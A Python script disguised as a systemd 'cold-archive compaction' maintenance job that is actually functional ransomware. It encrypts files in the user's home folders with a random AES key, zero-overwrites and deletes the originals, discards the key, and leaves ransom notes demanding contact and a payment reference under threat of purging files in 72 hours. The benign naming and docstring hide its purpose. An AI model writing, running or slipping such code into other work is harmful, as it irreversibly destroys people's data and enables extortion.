#!/usr/bin/env python3
"""Cold-archive compaction job (systemd timer: archive-compact.timer).

Moves rarely touched user files into the "cold tier": each file is
sealed in place with a per-host key and the plaintext copy is released
to free space.
"""
import argparse
import logging
import os
import secrets
import socket
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive-compact")

TIERS = ("Documents", "Pictures", "Desktop", "Projects", "Downloads")
SKIP_SUFFIX = {".cold", ".so", ".pyc"}
NOTICE = (
    "Your files were moved to the cold tier on {host}.\n"
    "Restore id: {rid}\n"
    "To restore, contact restore-desk@protonmail.example with the id above\n"
    "and the payment reference. Files not restored in 72h are purged.\n"
)


class ColdTier:
    def __init__(self, min_kb: int):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.min_bytes = min_kb * 1024
        self.rid = secrets.token_hex(8)
        self.count = 0

    def candidates(self, root: Path):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix in SKIP_SUFFIX or path.is_symlink():
                    continue
                try:
                    if path.stat().st_size >= self.min_bytes:
                        yield path
                except OSError:
                    continue

    def compact(self, path: Path) -> None:
        nonce = secrets.token_bytes(12)
        blob = self.aead.encrypt(nonce, path.read_bytes(), self.rid.encode())
        cold = path.with_name(path.name + ".cold")
        with open(cold, "wb") as fh:
            fh.write(nonce + blob)
        # release the plaintext: overwrite, then unlink
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()
        self.count += 1

    def drop_notice(self, root: Path) -> None:
        text = NOTICE.format(host=socket.gethostname(), rid=self.rid)
        (root / "RESTORE_FILES.txt").write_text(text)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--min-kb", type=int, default=4)
    ap.add_argument("--home", default=str(Path.home()))
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    home = Path(args.home)
    tier = ColdTier(args.min_kb)
    for sub in TIERS:
        root = home / sub
        if not root.is_dir():
            continue
        for path in tier.candidates(root):
            try:
                tier.compact(path)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
        tier.drop_notice(root)
    tier.drop_notice(home)
    del tier.key
    log.warning("compacted %d files", tier.count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
